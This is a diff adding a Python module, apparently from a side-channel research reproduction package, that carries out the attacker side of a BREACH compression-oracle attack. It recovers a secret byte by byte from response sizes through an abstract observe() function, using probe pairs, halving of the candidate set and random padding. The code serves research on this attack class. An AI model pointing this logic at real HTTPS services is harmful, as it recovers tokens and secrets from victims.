@@ -1,0 +1,324 @@
+"""Attacker-side computation for the compression-*ratio* oracle (BREACH).
+
+The cache-channel decoders in this package read address traces; this one
+reads nothing but a scalar per query — the compressed response size a
+BREACH attacker gets from Content-Length.  The victim reflects the
+attacker's query next to a secret of the form ``PREFIX + secret``; if
+the query contains ``PREFIX + known + c`` and ``c`` is the secret's next
+character, the LZ77 match against the secret extends by one byte and the
+response shrinks by roughly one literal.
+
+Everything here is a pure function of the supplied ``observe`` callable
+(the sealed oracle) and the RNG, so the attack logic is testable without
+a victim and replayable from recorded probe traces.
+
+Two classic robustness tricks from the BREACH paper are load-bearing:
+
+* **Two-guess probes** — every guess set is scored as the size
+  difference between a *match* probe (candidates adjacent to the known
+  prefix, so a correct one extends the match) and a *break* probe with
+  the exact same byte multiset but a separator splicing each candidate
+  away from the prefix.  Identical byte content means identical Huffman
+  pressure; the delta isolates the one-byte match extension.
+* **Divide and conquer** — each probe carries half the alive charset
+  (every candidate gets its own per-entry separator so cross-entry
+  matches are equal-length in both probes), halving the alive set per
+  round: O(log \\|charset\\|) probes per character instead of O(\\|charset\\|).
+
+Byte-granular sizes quantise away sub-byte deltas, so each probe is
+repeated with random incompressible padding (shifting bit alignment and
+Huffman tables) and the deltas averaged.
+"""
+
+from __future__ import annotations
+
+import random
+from dataclasses import dataclass, field
+from typing import Callable, Optional, Sequence
+
+from repro.workloads.generators import TOKEN_CHARSETS
+
+#: observe(query) -> observed response size (already mitigated/sealed).
+ObserveFn = Callable[[bytes], float]
+
+#: Charset escalation order: start cheap, extend on failed confirmation.
+DEFAULT_CHARSET_LADDER = ("alnum_lower", "alnum", "token68")
+
+#: Per-entry separators: bytes that occur in neither the victim payload
+#: (ASCII-ish HTML) nor any candidate charset, so they can never extend
+#: a match.  Distinct per entry within a probe, which keeps cross-entry
+#: matches the same length in the match and break probes (no bias).
+_SEPARATORS = bytes(range(0xC0, 0xF8))
+
+#: Random padding alphabet, disjoint from separators and charsets.
+_PAD_ALPHABET = bytes(range(0x80, 0xC0))
+
+#: A two-guess delta this far below zero confirms a candidate.  For a
+#: wrong guess the two probes encode the *same token multiset* and the
+#: delta is structurally exactly 0; for the right guess the extension
+#: saves the candidate's Huffman code length (4-9 bits), which crosses
+#: the byte-rounding boundary on a phase-dependent fraction of random
+#: paddings — so the repetition mean sits between -1 and a little below
+#: 0, and the threshold is set well inside that gap.
+CONFIRM_THRESHOLD = -0.25
+
+
+@dataclass(frozen=True)
+class ProbeOutcome:
+    """One scored two-guess probe (pure-data mirror of the trace record)."""
+
+    step: int        # which secret position was being attacked
+    label: str       # "half:<chars>" or "confirm:<char>"
+    probe_len: int   # bytes in one of the pair's probes
+    delta: float     # mean(size(match) - size(break)) over repetitions
+    queries: int     # cumulative observe() calls after this probe
+
+
+@dataclass
+class RecoveryResult:
+    """What :func:`recover_secret` found and how hard it had to work."""
+
+    recovered: bytes
+    confirmed: int            # leading characters that passed confirmation
+    requested: int            # characters the caller asked for
+    queries: int
+    probes: list[ProbeOutcome] = field(default_factory=list)
+
+    @property
+    def success(self) -> bool:
+        """True when every *requested* character was confirmed."""
+        return self.requested > 0 and self.confirmed == self.requested
+
+
+def probe_pair(
+    prefix: bytes,
+    known: bytes,
+    chars: Sequence[int],
+    pad: bytes = b"",
+) -> tuple[bytes, bytes]:
+    """Build the two-guess probe pair for a candidate set.
+
+    Both probes contain, per candidate ``c``, the bytes of
+    ``prefix + known + c + sep``; the match probe keeps ``c`` adjacent to
+    the prefix, the break probe splices ``sep`` in between.  Same byte
+    multiset, same cross-entry match lengths — only a correct candidate
+    in the match probe compresses one byte further against the secret.
+    """
+    if len(chars) > len(_SEPARATORS):
+        raise ValueError(
+            f"candidate set of {len(chars)} exceeds the "
+            f"{len(_SEPARATORS)} available separators"
+        )
+    match = bytearray()
+    broken = bytearray()
+    for i, c in enumerate(chars):
+        sep = _SEPARATORS[i : i + 1]
+        match += prefix + known + bytes([c]) + sep
+        broken += prefix + known + sep + bytes([c])
+    return bytes(match) + pad, bytes(broken) + pad
+
+
+def _random_pad(rng: random.Random, min_len: int = 8, max_len: int = 24) -> bytes:
+    """Per-repetition dither: incompressible random high bytes.
+
+    Each pad byte contributes its own (dynamic-Huffman) code length, so
+    a fresh pad re-rolls the token stream's bit phase — a sub-byte
+    match-extension saving crosses the byte-rounding boundary on a
+    fraction of repetitions instead of being absorbed by all of them.
+    (A *run* of one byte would collapse to a single match token and not
+    dither anything.)
+    """
+    return bytes(rng.choices(_PAD_ALPHABET, k=rng.randint(min_len, max_len)))
+
+
+def score_candidates(
+    observe: ObserveFn,
+    prefix: bytes,
+    known: bytes,
+    chars: Sequence[int],
+    rng: random.Random,
+    reps: int = 3,
+) -> tuple[float, int]:
+    """Mean two-guess delta for a candidate set; negative means the
+    secret's next character is (probably) in the set.
+
+    Returns ``(mean_delta, n_queries)``.  Each repetition re-pads both
+    probes with the same fresh random tail, so byte-quantised sub-byte
+    deltas survive the averaging.
+    """
+    total = 0.0
+    for _ in range(max(1, reps)):
+        pad = _random_pad(rng)
+        match, broken = probe_pair(prefix, known, chars, pad)
+        total += observe(match) - observe(broken)
+    return total / max(1, reps), 2 * max(1, reps)
+
+
+def recover_next_char(
+    observe: ObserveFn,
+    prefix: bytes,
+    known: bytes,
+    charset: bytes,
+    rng: random.Random,
+    step: int = 0,
+    reps: int = 2,
+    on_probe: Optional[Callable[[ProbeOutcome], None]] = None,
+    queries_so_far: int = 0,
+    confirm_threshold: float = CONFIRM_THRESHOLD,
+    max_rounds: int = 4,
+    strategy: str = "dnc",
+) -> tuple[Optional[int], int]:
+    """Recover one character; returns ``(char | None, queries)``.
+
+    ``strategy="dnc"`` halves the alive set on the more-negative
+    two-guess delta until one candidate remains (O(log) probes, the size
+    oracle's mode); ``strategy="scan"`` scores every candidate with its
+    own singleton probe and takes the argmin (O(n) probes — what a
+    timing attacker must do, because multi-candidate probes pick up
+    match-search timing systematics that the multiset trick cannot
+    cancel).  Either way the winner must pass a singleton confirmation;
+    ``None`` means confirmation failed — the caller escalates the
+    charset or declares the oracle dead (mitigated).
+
+    Scoring is *adaptive*: because the per-repetition delta only crosses
+    the byte boundary on a phase-dependent fraction of paddings, a split
+    whose halves tie (both near 0 — no repetition crossed) re-draws
+    fresh paddings for both halves, up to ``max_rounds`` rounds of
+    ``reps`` each, before committing.  The same widening applies to the
+    confirmation probe.  A mitigated oracle never stops tying, so the
+    extra rounds are bounded and show up as the query-cost of failing.
+    """
+    if strategy not in ("dnc", "scan"):
+        raise ValueError(f"unknown recovery strategy {strategy!r}")
+    queries = 0
+    tie_margin = abs(confirm_threshold)
+
+    def _probe_once(chars: Sequence[int]) -> float:
+        nonlocal queries
+        pad = _random_pad(rng)
+        match, broken = probe_pair(prefix, known, chars, pad)
+        queries += 2
+        return observe(match) - observe(broken)
+
+    def _emit(chars: Sequence[int], label: str, deltas: list[float]) -> None:
+        if on_probe is not None:
+            probe_len = len(probe_pair(prefix, known, chars)[0])
+            on_probe(
+                ProbeOutcome(
+                    step=step,
+                    label=label,
+                    probe_len=probe_len,
+                    delta=sum(deltas) / len(deltas),
+                    queries=queries_so_far + queries,
+                )
+            )
+
+    alive = list(charset)
+    if strategy == "scan":
+        best_mean = float("inf")
+        best_c = alive[0]
+        for c in alive:
+            deltas = [_probe_once([c]) for _ in range(reps)]
+            mean = sum(deltas) / len(deltas)
+            _emit([c], f"scan:{chr(c)}", deltas)
+            if mean < best_mean:
+                best_mean, best_c = mean, c
+        alive = [best_c]
+    while len(alive) > 1:
+        half = len(alive) // 2
+        lo, hi = alive[:half], alive[half:]
+        d_lo = [_probe_once(lo) for _ in range(reps)]
+        d_hi = [_probe_once(hi) for _ in range(reps)]
+        rounds = 1
+        while (
+            rounds < max_rounds
+            and abs(sum(d_lo) / len(d_lo) - sum(d_hi) / len(d_hi)) < tie_margin
+        ):
+            d_lo += [_probe_once(lo) for _ in range(reps)]
+            d_hi += [_probe_once(hi) for _ in range(reps)]
+            rounds += 1
+        _emit(lo, f"half:{bytes(lo[:8]).decode('latin1')}", d_lo)
+        _emit(hi, f"half:{bytes(hi[:8]).decode('latin1')}", d_hi)
+        alive = lo if sum(d_lo) / len(d_lo) <= sum(d_hi) / len(d_hi) else hi
+
+    candidate = alive[0]
+    deltas = [_probe_once([candidate]) for _ in range(reps)]
+    rounds = 1
+    while rounds < 2 * max_rounds and sum(deltas) / len(deltas) > confirm_threshold:
+        deltas += [_probe_once([candidate]) for _ in range(reps)]
+        rounds += 1
+    _emit([candidate], f"confirm:{chr(candidate)}", deltas)
+    if sum(deltas) / len(deltas) <= confirm_threshold:
+        return candidate, queries
+    return None, queries
+
+
+def recover_secret(
+    observe: ObserveFn,
+    prefix: bytes,
+    length: int,
+    charsets: Sequence[str] = DEFAULT_CHARSET_LADDER,
+    reps: int = 2,
+    seed: int = 0,
+    max_queries: int = 50_000,
+    on_probe: Optional[Callable[[ProbeOutcome], None]] = None,
+    confirm_threshold: float = CONFIRM_THRESHOLD,
+    strategy: str = "dnc",
+) -> RecoveryResult:
+    """Iteratively recover ``length`` secret characters through the oracle.
+
+    Per position: divide-and-conquer on the first charset; on failed
+    confirmation, escalate up the ``charsets`` ladder (re-running on the
+    wider set); if every charset fails — the signature of a mitigated or
+    dead oracle — recovery stops and the result reports how many leading
+    characters were actually confirmed.
+
+    ``confirm_threshold`` is in observation units: the default suits a
+    size oracle (bytes); a timing attacker passes roughly minus half the
+    per-byte transmit cost in ticks.
+    """
+    rng = random.Random(seed)
+    known = bytearray()
+    probes: list[ProbeOutcome] = []
+    queries = 0
+    confirmed = 0
+
+    def _record(outcome: ProbeOutcome) -> None:
+        probes.append(outcome)
+        if on_probe is not None:
+            on_probe(outcome)
+
+    for step in range(length):
+        found: Optional[int] = None
+        for charset_name in charsets:
+            charset = TOKEN_CHARSETS[charset_name]
+            found, used = recover_next_char(
+                observe,
+                prefix,
+                bytes(known),
+                charset,
+                rng,
+                step=step,
+                reps=reps,
+                on_probe=_record,
+                queries_so_far=queries,
+                confirm_threshold=confirm_threshold,
+                strategy=strategy,
+            )
+            queries += used
+            if found is not None or queries >= max_queries:
+                break
+        if found is None:
+            break
+        known.append(found)
+        confirmed += 1
+        if queries >= max_queries:
+            break
+
+    return RecoveryResult(
+        recovered=bytes(known),
+        confirmed=confirmed,
+        requested=length,
+        queries=queries,
+        probes=probes,
+    )
